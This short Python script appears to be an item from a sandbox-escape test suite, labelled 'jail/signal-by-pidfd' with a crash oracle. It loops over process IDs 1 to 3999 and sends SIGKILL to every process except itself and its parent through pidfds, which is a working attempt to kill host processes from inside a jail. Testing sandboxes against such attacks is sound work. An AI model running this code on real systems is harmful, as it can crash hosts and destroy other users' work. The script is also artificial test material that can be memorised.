# attack: jail/signal-by-pidfd
# oracle: crash
# imports: os, signal, ctypes
# tools:
# source: own
# note: a pidfd of a host process, and a signal by it
import os, signal
for pid in range(1, 4000):
    if pid in (os.getpid(), os.getppid()):
        continue
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
    except OSError:
        pass
